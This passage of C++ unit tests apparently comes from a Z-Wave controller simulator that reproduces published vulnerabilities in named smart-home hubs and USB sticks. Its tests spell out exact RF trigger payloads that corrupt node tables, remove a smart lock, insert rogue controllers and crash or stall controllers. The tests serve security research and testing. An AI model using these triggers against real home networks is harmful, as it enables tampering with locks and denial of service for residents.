  EXPECT_EQ(restored.value().find(4)->wakeup_interval_s, 600u);
}

TEST(NodeTableTest, NvmRejectsBadMagic) {
  NodeTable table;
  table.upsert(lock_record());
  Bytes image = table.serialize_nvm();
  image[0] = 'X';
  EXPECT_FALSE(NodeTable::deserialize_nvm(image).ok());
}

TEST(NodeTableTest, NvmRejectsTruncation) {
  NodeTable table;
  table.upsert(lock_record());
  const Bytes image = table.serialize_nvm();
  for (std::size_t cut = 1; cut < image.size(); ++cut) {
    EXPECT_FALSE(
        NodeTable::deserialize_nvm(ByteView(image.data(), image.size() - cut)).ok())
        << "cut " << cut;
  }
}

TEST(NodeTableTest, NvmRejectsBadSecurityBits) {
  NodeTable table;
  table.upsert(lock_record());
  Bytes image = table.serialize_nvm();
  image[8] = 0xFF;  // flags byte of the first record
  EXPECT_FALSE(NodeTable::deserialize_nvm(image).ok());
}

TEST(NodeTableTest, NvmRejectsUnknownVersion) {
  NodeTable table;
  Bytes image = table.serialize_nvm();
  image[4] = 9;
  EXPECT_FALSE(NodeTable::deserialize_nvm(image).ok());
}

TEST(NodeTableTest, NvmEmptyTable) {
  NodeTable table;
  const auto restored = NodeTable::deserialize_nvm(table.serialize_nvm());
  ASSERT_TRUE(restored.ok());
  EXPECT_EQ(restored.value().size(), 0u);
}

TEST(NodeTableTest, RenderShowsDevices) {
  NodeTable table;
  table.upsert(lock_record());
  const std::string text = table.render();
  EXPECT_NE(text.find("Smart Lock"), std::string::npos);
  EXPECT_NE(text.find("S2"), std::string::npos);
  EXPECT_NE(text.find("#2"), std::string::npos);
}

TEST(NodeTableTest, RenderEmpty) {
  NodeTable table;
  EXPECT_NE(table.render().find("(empty)"), std::string::npos);
}

}  // namespace
}  // namespace zc::sim
