#include "sim/repeater.h"

#include <gtest/gtest.h>

#include "sim/testbed.h"

namespace zc::sim {
namespace {

TEST(RepeaterTest, RelaysRoutedFrameToOutOfRangeController) {
  // Attacker at 500 m: direct RF cannot reach the hub (sensitivity floor),
  // but a mains repeater halfway bridges the gap.
  TestbedConfig config;
  config.attacker_distance_m = 500.0;
  Testbed testbed(config);
  auto& controller = testbed.controller();
  Repeater repeater(testbed.medium(), testbed.scheduler(), controller.home_id(),
                    0x08, 250.0, 0.0);
  radio::MacEndpoint attacker(testbed.medium(), testbed.attacker_radio_config("attacker"));

  zwave::AppPayload tamper;
  tamper.cmd_class = 0x01;
  tamper.command = 0x0D;
  tamper.params = {0x02, Testbed::kLockNodeId, 0x00};  // remove the lock

  // Direct injection: silence (out of range).
  attacker.send(zwave::make_singlecast(controller.home_id(), 0xE7, 0x01, tamper, 1, false));
  testbed.scheduler().run_for(200 * kMillisecond);
  ASSERT_NE(controller.node_table().find(Testbed::kLockNodeId), nullptr);

  // Routed injection through the repeater: lands.
  zwave::RouteHeader route;
  route.repeaters = {0x08};
  attacker.send(zwave::make_routed_singlecast(controller.home_id(), 0xE7, 0x01, route,
                                              tamper, 2));
  testbed.scheduler().run_for(300 * kMillisecond);
  EXPECT_EQ(repeater.frames_relayed(), 1u);
  EXPECT_EQ(controller.node_table().find(Testbed::kLockNodeId), nullptr);
  ASSERT_FALSE(controller.triggered().empty());
  EXPECT_EQ(controller.triggered().back().bug_id, 3);
}

TEST(RepeaterTest, IgnoresFramesForOtherHops) {
  TestbedConfig config;
  Testbed testbed(config);
  Repeater repeater(testbed.medium(), testbed.scheduler(), testbed.controller().home_id(),
                    0x08, 10.0, 0.0);
  radio::MacEndpoint sender(testbed.medium(), testbed.attacker_radio_config("sender"));

  zwave::AppPayload nop = zwave::make_nop();
  zwave::RouteHeader route;
  route.repeaters = {0x09};  // a different repeater's hop
  sender.send(zwave::make_routed_singlecast(testbed.controller().home_id(), 0xE7, 0x01,
                                            route, nop, 1));
  testbed.scheduler().run_for(100 * kMillisecond);
  EXPECT_EQ(repeater.frames_relayed(), 0u);
}

TEST(RepeaterTest, IgnoresForeignNetworks) {
  TestbedConfig config;
  Testbed testbed(config);
  Repeater repeater(testbed.medium(), testbed.scheduler(), testbed.controller().home_id(),
                    0x08, 10.0, 0.0);
  radio::MacEndpoint sender(testbed.medium(), testbed.attacker_radio_config("sender"));
  zwave::RouteHeader route;
  route.repeaters = {0x08};
  sender.send(zwave::make_routed_singlecast(0xDEADBEEF, 0xE7, 0x01, route,
                                            zwave::make_nop(), 1));
  testbed.scheduler().run_for(100 * kMillisecond);
  EXPECT_EQ(repeater.frames_relayed(), 0u);
}

TEST(RepeaterTest, MultiHopChain) {
  TestbedConfig config;
  config.attacker_distance_m = 600.0;
  Testbed testbed(config);
  auto& controller = testbed.controller();
  Repeater hop1(testbed.medium(), testbed.scheduler(), controller.home_id(), 0x08, 400.0,
                0.0);
  Repeater hop2(testbed.medium(), testbed.scheduler(), controller.home_id(), 0x09, 200.0,
                0.0);
  // Each 200 m link clears the fade margin at 4 dBm; the 600 m direct path
  // is below the sensitivity floor.
  radio::MacEndpoint attacker(testbed.medium(), testbed.attacker_radio_config("attacker"));

  zwave::RouteHeader route;
  route.repeaters = {0x08, 0x09};
  zwave::AppPayload probe;
  probe.cmd_class = 0x86;
  probe.command = 0x11;
  attacker.send(zwave::make_routed_singlecast(controller.home_id(), 0xE7, 0x01, route,
                                              probe, 1));
  testbed.scheduler().run_for(300 * kMillisecond);
  EXPECT_EQ(hop1.frames_relayed(), 1u);
  EXPECT_EQ(hop2.frames_relayed(), 1u);
  EXPECT_TRUE(controller.stats().accepted_pairs.contains({0x86, 0x11}));
}

TEST(RepeaterTest, ControllerIgnoresMidRouteFrames) {
  // A routed frame whose hops are not yet exhausted must not be consumed
  // by the destination, even if it happens to hear it.
  TestbedConfig config;
  Testbed testbed(config);
  auto& controller = testbed.controller();
  radio::MacEndpoint sender(testbed.medium(), testbed.attacker_radio_config("sender"));

  zwave::RouteHeader route;
  route.repeaters = {0x77};  // a repeater that does not exist
  zwave::AppPayload probe;
  probe.cmd_class = 0x86;
  probe.command = 0x11;
  sender.send(zwave::make_routed_singlecast(controller.home_id(), 0xE7, 0x01, route,
                                            probe, 1));
  testbed.scheduler().run_for(200 * kMillisecond);
  EXPECT_FALSE(controller.stats().accepted_pairs.contains({0x86, 0x11}));
}

}  // namespace
}  // namespace zc::sim
