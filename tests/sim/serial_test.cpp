#include "sim/serial.h"

#include <gtest/gtest.h>

#include "sim/testbed.h"

namespace zc::sim {
namespace {

TEST(SerialFrameTest, EncodeLayout) {
  SerialFrame frame;
  frame.type = SerialType::kRequest;
  frame.func = static_cast<std::uint8_t>(SerialFunc::kApplicationCommandHandler);
  frame.data = {0x02, 0x03, 0x20, 0x01, 0xFF};
  const Bytes raw = frame.encode();
  ASSERT_EQ(raw.size(), 2u + 3u + 5u);
  EXPECT_EQ(raw[0], kSerialSof);
  EXPECT_EQ(raw[1], 3 + 5);  // LEN = TYPE + FUNC + DATA + CS
  EXPECT_EQ(raw[2], 0x00);   // request
  EXPECT_EQ(raw[3], 0x04);
  EXPECT_EQ(raw.back(), serial_checksum(ByteView(raw.data() + 1, raw.size() - 2)));
}

TEST(SerialFrameTest, DecodeInvertsEncode) {
  SerialFrame frame;
  frame.type = SerialType::kResponse;
  frame.func = 0x41;
  frame.data = {0xAA, 0xBB};
  std::size_t consumed = 0;
  const auto decoded = decode_serial_frame(frame.encode(), &consumed);
  ASSERT_TRUE(decoded.ok());
  EXPECT_EQ(decoded.value().type, SerialType::kResponse);
  EXPECT_EQ(decoded.value().func, 0x41);
  EXPECT_EQ(decoded.value().data, (Bytes{0xAA, 0xBB}));
  EXPECT_EQ(consumed, frame.encode().size());
}

TEST(SerialFrameTest, EmptyDataFrame) {
  SerialFrame frame;
  frame.func = 0x13;
  const auto decoded = decode_serial_frame(frame.encode());
  ASSERT_TRUE(decoded.ok());
  EXPECT_TRUE(decoded.value().data.empty());
}

TEST(SerialFrameTest, DecodeRejectsBadChecksum) {
  SerialFrame frame;
  frame.func = 0x04;
  frame.data = {0x01};
  const auto decoded = decode_serial_frame(frame.encode_corrupted());
  ASSERT_FALSE(decoded.ok());
  EXPECT_EQ(decoded.error().code, Errc::kBadChecksum);
}

TEST(SerialFrameTest, DecodeRejectsMissingSof) {
  EXPECT_EQ(decode_serial_frame(Bytes{0x02, 0x03, 0x00}).error().code, Errc::kBadField);
}

TEST(SerialFrameTest, DecodeReportsTruncation) {
  SerialFrame frame;
  frame.func = 0x04;
  frame.data = {0x01, 0x02, 0x03};
  Bytes raw = frame.encode();
  raw.resize(raw.size() - 2);
  EXPECT_EQ(decode_serial_frame(raw).error().code, Errc::kTruncated);
}

TEST(SerialFrameTest, DecodeRejectsBadType) {
  SerialFrame frame;
  frame.func = 0x04;
  Bytes raw = frame.encode();
  raw[2] = 0x07;  // neither request nor response
  raw.back() = serial_checksum(ByteView(raw.data() + 1, raw.size() - 2));
  EXPECT_EQ(decode_serial_frame(raw).error().code, Errc::kBadField);
}

class HostProgramTest : public ::testing::Test {
 protected:
  HostProgramTest() : state_("pc-program", scheduler_), program_(state_, scheduler_) {}

  EventScheduler scheduler_;
  HostSoftware state_;
  HostProgram program_;
};

TEST_F(HostProgramTest, ParsesWellFormedStream) {
  SerialFrame frame;
  frame.func = 0x04;
  frame.data = {0x02, 0x01, 0x20};
  for (int i = 0; i < 5; ++i) {
    program_.on_serial_bytes(frame.encode());
    scheduler_.run_for(50 * kMillisecond);
  }
  EXPECT_EQ(program_.frames_ok(), 5u);
  EXPECT_TRUE(state_.responsive());
}

TEST_F(HostProgramTest, HandlesSplitDelivery) {
  SerialFrame frame;
  frame.func = 0x49;
  frame.data = {0x84, 0x02};
  const Bytes raw = frame.encode();
  program_.on_serial_bytes(ByteView(raw.data(), 3));
  EXPECT_EQ(program_.frames_ok(), 0u);
  program_.on_serial_bytes(ByteView(raw.data() + 3, raw.size() - 3));
  EXPECT_EQ(program_.frames_ok(), 1u);
}

TEST_F(HostProgramTest, ResynchronizesOnGarbage) {
  SerialFrame frame;
  frame.func = 0x04;
  Bytes noisy = {0x55, 0x55};  // line noise before SOF
  const Bytes raw = frame.encode();
  noisy.insert(noisy.end(), raw.begin(), raw.end());
  program_.on_serial_bytes(noisy);
  EXPECT_EQ(program_.frames_ok(), 1u);
  EXPECT_TRUE(state_.responsive());
}

TEST_F(HostProgramTest, MalformedFrameCrashesProgram) {
  SerialFrame frame;
  frame.func = static_cast<std::uint8_t>(SerialFunc::kSecurityEvent);
  frame.data = {0x01};
  program_.on_serial_bytes(frame.encode_corrupted());
  EXPECT_EQ(state_.state(), HostSoftware::State::kCrashed);
  EXPECT_EQ(program_.frames_bad(), 1u);
}

TEST_F(HostProgramTest, CallbackFloodWedgesProgram) {
  SerialFrame frame;
  frame.func = static_cast<std::uint8_t>(SerialFunc::kPowerlevelTestReport);
  frame.data = {0x02, 0x01};
  const Bytes raw = frame.encode();
  for (int i = 0; i < 20; ++i) {
    program_.on_serial_bytes(raw);
    scheduler_.run_for(2 * kMillisecond);
  }
  EXPECT_EQ(state_.state(), HostSoftware::State::kDenialOfService);
}

TEST_F(HostProgramTest, SlowCallbacksDoNotTripFloodDetector) {
  SerialFrame frame;
  frame.func = static_cast<std::uint8_t>(SerialFunc::kPowerlevelTestReport);
  const Bytes raw = frame.encode();
  for (int i = 0; i < 60; ++i) {
    program_.on_serial_bytes(raw);
    scheduler_.run_for(50 * kMillisecond);
  }
  EXPECT_TRUE(state_.responsive());
}

TEST_F(HostProgramTest, CrashedProgramIgnoresBytesUntilRestart) {
  SerialFrame frame;
  frame.func = 0x04;
  program_.on_serial_bytes(frame.encode_corrupted());
  ASSERT_FALSE(state_.responsive());
  program_.on_serial_bytes(frame.encode());
  EXPECT_EQ(program_.frames_ok(), 0u);
  state_.restart();
  program_.on_serial_bytes(frame.encode());
  EXPECT_EQ(program_.frames_ok(), 1u);
}

TEST(SerialFrameTest, DecoderSurvivesRandomBytes) {
  Rng rng(0x5E41);
  for (int i = 0; i < 5000; ++i) {
    const Bytes blob = rng.bytes(static_cast<std::size_t>(rng.uniform(0, 40)));
    std::size_t consumed = 0;
    const auto frame = decode_serial_frame(blob, &consumed);
    if (frame.ok()) {
      EXPECT_GE(consumed, 5u);
      EXPECT_LE(consumed, blob.size());
    }
  }
}

TEST(HostProgramFuzz, SurvivesRandomByteStreams) {
  EventScheduler scheduler;
  HostSoftware state("pc", scheduler);
  HostProgram program(state, scheduler);
  Rng rng(0x0573);
  for (int i = 0; i < 3000; ++i) {
    program.on_serial_bytes(rng.bytes(static_cast<std::size_t>(rng.uniform(1, 24))));
    scheduler.run_for(10 * kMillisecond);
    if (!state.responsive()) state.restart();  // operator keeps restarting
  }
  // The parser processed the garbage without wedging permanently.
  EXPECT_TRUE(state.responsive());
}

TEST(SerialIntegrationTest, Bug6TravelsTheSerialLink) {
  // End-to-end: the RF packet hits the chip, the chip survives, the
  // malformed serial callback kills the program.
  TestbedConfig config;
  config.controller_model = DeviceModel::kD2_SilabsUzb7;
  Testbed testbed(config);
  radio::MacEndpoint attacker(testbed.medium(), testbed.attacker_radio_config("attacker"));
  zwave::AppPayload nonce_get;
  nonce_get.cmd_class = 0x9F;
  nonce_get.command = 0x01;
  nonce_get.params = {0x00};
  attacker.send(zwave::make_singlecast(testbed.controller().home_id(), 0xE7, 0x01,
                                       nonce_get, 1, true));
  testbed.scheduler().run_for(200 * kMillisecond);

  EXPECT_TRUE(testbed.controller().responsive());  // the chip is fine
  EXPECT_EQ(testbed.controller().host().state(), HostSoftware::State::kCrashed);
}

TEST(SerialIntegrationTest, NormalTrafficForwardsAsCallbacks) {
  TestbedConfig config;
  config.controller_model = DeviceModel::kD1_ZoozZst10;
  config.include_slaves = false;
  Testbed testbed(config);
  radio::MacEndpoint probe(testbed.medium(), testbed.attacker_radio_config("probe"));
  zwave::AppPayload version_get;
  version_get.cmd_class = 0x86;
  version_get.command = 0x11;
  probe.send(zwave::make_singlecast(testbed.controller().home_id(), 0xE7, 0x01,
                                    version_get, 1, true));
  testbed.scheduler().run_for(100 * kMillisecond);
  ASSERT_NE(testbed.controller().host_program(), nullptr);
  EXPECT_GE(testbed.controller().host_program()->frames_ok(), 1u);
}

sim::SerialFrame host_request(SerialFunc func, Bytes data) {
  sim::SerialFrame frame;
  frame.type = SerialType::kRequest;
  frame.func = static_cast<std::uint8_t>(func);
  frame.data = std::move(data);
  return frame;
}

TEST(SerialHostApiTest, SendDataTransmitsOverRf) {
  TestbedConfig config;
  config.controller_model = DeviceModel::kD1_ZoozZst10;
  Testbed testbed(config);
  const auto response = testbed.controller().handle_host_request(host_request(
      SerialFunc::kSendData, {Testbed::kSwitchNodeId, 3, 0x25, 0x01, 0xFF}));
  EXPECT_EQ(response.type, SerialType::kResponse);
  ASSERT_FALSE(response.data.empty());
  EXPECT_EQ(response.data[0], 0x01);
  testbed.scheduler().run_for(200 * kMillisecond);
  EXPECT_TRUE(testbed.smart_switch()->on());
}

TEST(SerialHostApiTest, SendDataValidatesItsArguments) {
  TestbedConfig config;
  config.controller_model = DeviceModel::kD1_ZoozZst10;
  Testbed testbed(config);
  auto& controller = testbed.controller();
  // Too short.
  EXPECT_EQ(controller.handle_host_request(host_request(SerialFunc::kSendData, {3})).data[0],
            0x00);
  // Length overruns the data.
  EXPECT_EQ(controller
                .handle_host_request(host_request(SerialFunc::kSendData, {3, 9, 0x25}))
                .data[0],
            0x00);
}

TEST(SerialHostApiTest, GetNodeProtocolInfoReflectsTable) {
  TestbedConfig config;
  config.controller_model = DeviceModel::kD1_ZoozZst10;
  Testbed testbed(config);
  const auto known = testbed.controller().handle_host_request(
      host_request(SerialFunc::kGetNodeProtocolInfo, {Testbed::kLockNodeId}));
  ASSERT_EQ(known.data.size(), 4u);
  EXPECT_EQ(known.data[0], 0x01);
  EXPECT_EQ(known.data[2], static_cast<std::uint8_t>(zwave::SecurityLevel::kS2));

  const auto unknown = testbed.controller().handle_host_request(
      host_request(SerialFunc::kGetNodeProtocolInfo, {0x99}));
  EXPECT_EQ(unknown.data[0], 0x00);
}

TEST(SerialHostApiTest, SendDataToSleepingNodeIsMailboxed) {
  TestbedConfig config;
  config.controller_model = DeviceModel::kD1_ZoozZst10;
  config.include_s0_sensor = true;  // node 4: non-listening
  Testbed testbed(config);
  auto& controller = testbed.controller();

  const auto response = controller.handle_host_request(host_request(
      SerialFunc::kSendData, {Testbed::kS0SensorNodeId, 3, 0x20, 0x01, 0xFF}));
  EXPECT_EQ(response.data[0], 0x01);
  EXPECT_EQ(controller.queued_for(Testbed::kS0SensorNodeId), 1u);

  // The sensor wakes up: the mailbox flushes over RF.
  testbed.s0_sensor()->notify_awake();
  testbed.scheduler().run_for(200 * kMillisecond);
  EXPECT_EQ(controller.queued_for(Testbed::kS0SensorNodeId), 0u);
}

TEST(SerialHostApiTest, Bug12OrphansTheWakeupMailbox) {
  // After the wake-up bookkeeping is wiped (bug #12), notifications no
  // longer flush the queue: the paper's "network becomes unresponsive,
  // requiring manual intervention".
  TestbedConfig config;
  config.controller_model = DeviceModel::kD1_ZoozZst10;
  config.include_s0_sensor = true;
  Testbed testbed(config);
  auto& controller = testbed.controller();
  controller.handle_host_request(host_request(
      SerialFunc::kSendData, {Testbed::kS0SensorNodeId, 3, 0x20, 0x01, 0xFF}));
  ASSERT_EQ(controller.queued_for(Testbed::kS0SensorNodeId), 1u);

  radio::MacEndpoint attacker(testbed.medium(), testbed.attacker_radio_config("attacker"));
  zwave::AppPayload wipe;
  wipe.cmd_class = 0x01;
  wipe.command = 0x0D;
  wipe.params = {0x04, 0x02, 0x00};  // bug #12 trigger
  attacker.send(zwave::make_singlecast(controller.home_id(), 0xE7, 0x01, wipe, 1, false));
  testbed.scheduler().run_for(100 * kMillisecond);
  ASSERT_EQ(controller.node_table().find(Testbed::kS0SensorNodeId)->wakeup_interval_s, 0u);

  testbed.s0_sensor()->notify_awake();
  testbed.scheduler().run_for(200 * kMillisecond);
  EXPECT_EQ(controller.queued_for(Testbed::kS0SensorNodeId), 1u);  // still stuck
}

TEST(SerialHostApiTest, BusyChipRefusesRequests) {
  TestbedConfig config;
  config.controller_model = DeviceModel::kD1_ZoozZst10;
  Testbed testbed(config);
  radio::MacEndpoint attacker(testbed.medium(), testbed.attacker_radio_config("attacker"));
  zwave::AppPayload reset;
  reset.cmd_class = 0x5A;
  reset.command = 0x01;
  attacker.send(zwave::make_singlecast(testbed.controller().home_id(), 0xE7, 0x01, reset,
                                       1, false));
  testbed.scheduler().run_for(100 * kMillisecond);
  ASSERT_FALSE(testbed.controller().responsive());
  const auto response = testbed.controller().handle_host_request(
      host_request(SerialFunc::kGetNodeProtocolInfo, {Testbed::kLockNodeId}));
  EXPECT_EQ(response.data[0], 0x00);
}

TEST(SerialHostApiTest, UnsupportedFunctionRefused) {
  TestbedConfig config;
  config.controller_model = DeviceModel::kD1_ZoozZst10;
  Testbed testbed(config);
  sim::SerialFrame odd;
  odd.type = SerialType::kRequest;
  odd.func = 0xEE;
  EXPECT_EQ(testbed.controller().handle_host_request(odd).data[0], 0x00);
}

TEST(SerialIntegrationTest, HubsHaveNoSerialProgram) {
  TestbedConfig config;
  config.controller_model = DeviceModel::kD6_SamsungWv520;
  Testbed testbed(config);
  EXPECT_EQ(testbed.controller().host_program(), nullptr);
}

}  // namespace
}  // namespace zc::sim
