#include "sim/controller.h"

#include <gtest/gtest.h>

#include "sim/testbed.h"
#include "zwave/checksum.h"

namespace zc::sim {
namespace {

/// Test harness: a testbed plus a raw attacker endpoint for crafting
/// arbitrary frames at the controller.
class ControllerHarness {
 public:
  explicit ControllerHarness(DeviceModel model = DeviceModel::kD4_AeotecZw090) {
    TestbedConfig config;
    config.controller_model = model;
    testbed_ = std::make_unique<Testbed>(config);
    attacker_ = std::make_unique<radio::MacEndpoint>(
        testbed_->medium(), testbed_->attacker_radio_config("attacker"));
    attacker_->set_frame_handler([this](const zwave::MacFrame& frame, double) {
      if (frame.src == 0x01 && frame.dst == kAttackerNode) inbox_.push_back(frame);
    });
  }

  static constexpr zwave::NodeId kAttackerNode = 0xE7;

  VirtualController& controller() { return testbed_->controller(); }
  Testbed& testbed() { return *testbed_; }

  void send(const zwave::AppPayload& app, bool ack = true) {
    attacker_->send(zwave::make_singlecast(controller().home_id(), kAttackerNode, 0x01,
                                           app, seq_++ & 0x0F, ack));
    testbed_->scheduler().run_for(100 * kMillisecond);
  }

  /// Last application reply from the controller (skipping acks).
  std::optional<zwave::AppPayload> last_reply() {
    for (auto it = inbox_.rbegin(); it != inbox_.rend(); ++it) {
      if (it->header == zwave::HeaderType::kAck) continue;
      const auto app = zwave::decode_app_payload(it->payload);
      if (app.ok()) return app.value();
    }
    return std::nullopt;
  }

  bool got_ack() const {
    for (const auto& frame : inbox_) {
      if (frame.header == zwave::HeaderType::kAck) return true;
    }
    return false;
  }

  void clear() { inbox_.clear(); }

 private:
  std::unique_ptr<Testbed> testbed_;
  std::unique_ptr<radio::MacEndpoint> attacker_;
  std::vector<zwave::MacFrame> inbox_;
  std::uint8_t seq_ = 1;
};

zwave::AppPayload app_of(zwave::CommandClassId cc, zwave::CommandId cmd, Bytes params = {}) {
  zwave::AppPayload app;
  app.cmd_class = cc;
  app.command = cmd;
  app.params = std::move(params);
  return app;
}

TEST(ControllerTest, AcksSinglecastWhenRequested) {
  ControllerHarness h;
  h.send(app_of(0x01, 0x01));  // NOP
  EXPECT_TRUE(h.got_ack());
}

TEST(ControllerTest, AnswersNifRequestWithListedClasses) {
  ControllerHarness h;
  h.send(app_of(0x01, 0x02, {0x01}));
  const auto reply = h.last_reply();
  ASSERT_TRUE(reply.has_value());
  const auto info = zwave::decode_node_info(*reply);
  ASSERT_TRUE(info.ok());
  EXPECT_EQ(info.value().supported.size(), 17u);  // D4 lists 17 (Table IV)
  EXPECT_EQ(info.value().basic_class, zwave::kBasicClassStaticController);
}

TEST(ControllerTest, RejectsUnimplementedCommandOnRecognizedClass) {
  ControllerHarness h;
  h.send(app_of(0x86, 0x00, {0x00}));  // VERSION, bogus command
  const auto reply = h.last_reply();
  ASSERT_TRUE(reply.has_value());
  EXPECT_EQ(reply->cmd_class, 0x22);  // APPLICATION_STATUS
  EXPECT_EQ(reply->command, 0x02);    // REJECTED_REQUEST
}

TEST(ControllerTest, SilentlyIgnoresUnrecognizedClass) {
  ControllerHarness h;
  h.send(app_of(0x62, 0x02));  // DOOR_LOCK is a slave class
  EXPECT_FALSE(h.last_reply().has_value());
  EXPECT_EQ(h.controller().stats().unrecognized_class, 1u);
}

TEST(ControllerTest, IgnoresForeignHomeId) {
  ControllerHarness h;
  // Craft a frame with the wrong home id via a second endpoint.
  radio::MacEndpoint rogue(h.testbed().medium(),
                           h.testbed().attacker_radio_config("rogue"));
  rogue.send(zwave::make_singlecast(0xDEADBEEF, 0x05, 0x01, app_of(0x01, 0x01), 1, true));
  h.testbed().scheduler().run_for(100 * kMillisecond);
  EXPECT_EQ(h.controller().stats().app_payloads, 0u);
}

TEST(ControllerTest, VersionQueryAnswered) {
  ControllerHarness h;
  h.send(app_of(0x86, 0x11));
  const auto reply = h.last_reply();
  ASSERT_TRUE(reply.has_value());
  EXPECT_EQ(reply->cmd_class, 0x86);
  EXPECT_EQ(reply->command, 0x12);
}

TEST(ControllerTest, Bug1CorruptsNodeProperties) {
  ControllerHarness h;
  ASSERT_EQ(h.controller().node_table().find(2)->basic_class, zwave::kBasicClassSlave);
  h.send(app_of(0x01, 0x0D, {0x00, 0x02, 0x00}));  // op 0: corrupt node 2
  const NodeRecord* lock = h.controller().node_table().find(2);
  ASSERT_NE(lock, nullptr);
  EXPECT_EQ(lock->basic_class, zwave::kBasicClassRoutingSlave);  // Fig. 8
  EXPECT_EQ(lock->security, zwave::SecurityLevel::kNone);
  ASSERT_EQ(h.controller().triggered().size(), 1u);
  EXPECT_EQ(h.controller().triggered()[0].bug_id, 1);
}

TEST(ControllerTest, Bug2InsertsRogueController) {
  ControllerHarness h;
  h.send(app_of(0x01, 0x0D, {0x01, 200, 0x00}));
  const NodeRecord* rogue = h.controller().node_table().find(200);
  ASSERT_NE(rogue, nullptr);
  EXPECT_EQ(rogue->basic_class, zwave::kBasicClassController);  // Fig. 9
}

TEST(ControllerTest, Bug3RemovesValidDevice) {
  ControllerHarness h;
  h.send(app_of(0x01, 0x0D, {0x02, 0x02, 0x00}));
  EXPECT_EQ(h.controller().node_table().find(2), nullptr);  // Fig. 10
}

TEST(ControllerTest, Bug4OverwritesDatabase) {
  ControllerHarness h;
  h.send(app_of(0x01, 0x0D, {0x03, 0x00, 0x00}));
  const auto& table = h.controller().node_table();
  EXPECT_EQ(table.find(2), nullptr);
  EXPECT_NE(table.find(10), nullptr);   // Fig. 11: fake controllers
  EXPECT_NE(table.find(200), nullptr);
}

TEST(ControllerTest, Bug12ClearsWakeupBookkeeping) {
  ControllerHarness h;
  ASSERT_EQ(h.controller().node_table().find(2)->wakeup_interval_s, 3600u);
  h.send(app_of(0x01, 0x0D, {0x04, 0x05, 0x00}));  // any target
  EXPECT_EQ(h.controller().node_table().find(2)->wakeup_interval_s, 0u);
}

TEST(ControllerTest, Bug5GhostNifKillsHostApp) {
  ControllerHarness h(DeviceModel::kD6_SamsungWv520);
  EXPECT_TRUE(h.controller().host().responsive());
  h.send(app_of(0x01, 0x02, {0x77}));  // NIF for a non-member node
  EXPECT_EQ(h.controller().host().state(), HostSoftware::State::kDenialOfService);
  EXPECT_FALSE(h.controller().cloud_control_available());
}

TEST(ControllerTest, ValidNifTargetDoesNotTriggerBug5) {
  ControllerHarness h(DeviceModel::kD6_SamsungWv520);
  h.send(app_of(0x01, 0x02, {0x01}));  // the controller itself: legit
  EXPECT_TRUE(h.controller().host().responsive());
  EXPECT_TRUE(h.controller().triggered().empty());
}

TEST(ControllerTest, Bug6CrashesPcProgramOnUsbModels) {
  ControllerHarness h(DeviceModel::kD1_ZoozZst10);
  h.send(app_of(0x9F, 0x01, {0x00}));  // S2 NONCE_GET
  EXPECT_EQ(h.controller().host().state(), HostSoftware::State::kCrashed);
  EXPECT_EQ(h.controller().host().crash_count(), 1u);
}

TEST(ControllerTest, Bug6DoesNotAffectHubs) {
  ControllerHarness h(DeviceModel::kD6_SamsungWv520);
  h.send(app_of(0x9F, 0x01, {0x00}));
  EXPECT_TRUE(h.controller().host().responsive());
}

TEST(ControllerTest, Bug7ServiceInterruption68s) {
  ControllerHarness h;
  h.send(app_of(0x5A, 0x01));
  EXPECT_FALSE(h.controller().responsive());
  // Unresponsive: no ack for a NOP now.
  h.clear();
  h.send(app_of(0x01, 0x01));
  EXPECT_FALSE(h.got_ack());
  // After 68 s the controller recovers by itself.
  h.testbed().scheduler().run_for(68 * kSecond);
  EXPECT_TRUE(h.controller().responsive());
  h.send(app_of(0x01, 0x01));
  EXPECT_TRUE(h.got_ack());
}

TEST(ControllerTest, Bug10NeedsBogusVersionParameter) {
  ControllerHarness h;
  h.send(app_of(0x86, 0x13, {0x85}));  // supported class: legit query
  EXPECT_TRUE(h.controller().responsive());
  const auto reply = h.last_reply();
  ASSERT_TRUE(reply.has_value());
  EXPECT_EQ(reply->command, 0x14);

  h.send(app_of(0x86, 0x13, {0x44}));  // class the controller ignores
  EXPECT_FALSE(h.controller().responsive());
  h.testbed().scheduler().run_for(4 * kSecond);
  EXPECT_TRUE(h.controller().responsive());
}

TEST(ControllerTest, Bug14BusyScanLastsFourMinutes) {
  ControllerHarness h;
  h.send(app_of(0x01, 0x04, {0x00}));
  EXPECT_FALSE(h.controller().responsive());
  h.testbed().scheduler().run_for(3 * kMinute);
  EXPECT_FALSE(h.controller().responsive());
  h.testbed().scheduler().run_for(1 * kMinute + kSecond);
  EXPECT_TRUE(h.controller().responsive());
}

TEST(ControllerTest, SecureNodeTableUpdateViaS2IsLegitimate) {
  // The same NODE_TABLE_UPDATE payload through the S2 channel is the
  // intended management path: no vulnerability trigger is recorded.
  TestbedConfig config;
  config.controller_model = DeviceModel::kD4_AeotecZw090;
  Testbed testbed(config);
  auto& controller = testbed.controller();

  // Drive through the lock's established S2 session.
  zwave::AppPayload update = app_of(0x01, 0x0D, {0x02, 0x03, 0x00});  // remove node 3
  // Reuse the lock's session by sending from the lock's node id.
  // (The lock object holds the lock-side session.)
  // We emulate: encapsulate with a fresh pair of sessions installed on
  // both sides for a test node.
  Rng rng(99);
  const auto priv_a = crypto::make_x25519_key(rng.bytes(32));
  const auto priv_b = crypto::make_x25519_key(rng.bytes(32));
  const auto keys_a = zwave::s2_key_agreement(priv_a, crypto::x25519_public(priv_b));
  const auto keys_b = zwave::s2_key_agreement(priv_b, crypto::x25519_public(priv_a));
  const Bytes seed = rng.bytes(32);
  controller.install_s2_session(0x09, keys_a, seed);
  zwave::S2Session sender(keys_b, seed);

  radio::MacEndpoint trusted(testbed.medium(), testbed.attacker_radio_config("trusted"));
  const auto outer = sender.encapsulate(update, controller.home_id(), 0x09, 0x01);
  trusted.send(zwave::make_singlecast(controller.home_id(), 0x09, 0x01, outer, 1, true));
  testbed.scheduler().run_for(100 * kMillisecond);

  EXPECT_EQ(controller.node_table().find(3), nullptr);  // applied
  EXPECT_TRUE(controller.triggered().empty());          // but no bug fired
}

TEST(ControllerTest, OperatorRecoverEndsOutagesAndRestartsHost) {
  ControllerHarness h(DeviceModel::kD1_ZoozZst10);
  h.send(app_of(0x73, 0x04, {0x02, 0x01, 0x00, 0x01}));  // bug 13: PC DoS
  EXPECT_FALSE(h.controller().host().responsive());
  h.send(app_of(0x01, 0x04, {0x00}));  // bug 14 outage
  EXPECT_FALSE(h.controller().responsive());
  h.controller().operator_recover();
  EXPECT_TRUE(h.controller().responsive());
  EXPECT_TRUE(h.controller().host().responsive());
}

TEST(ControllerTest, AcceptedPairsTrackDispatchedCommands) {
  ControllerHarness h;
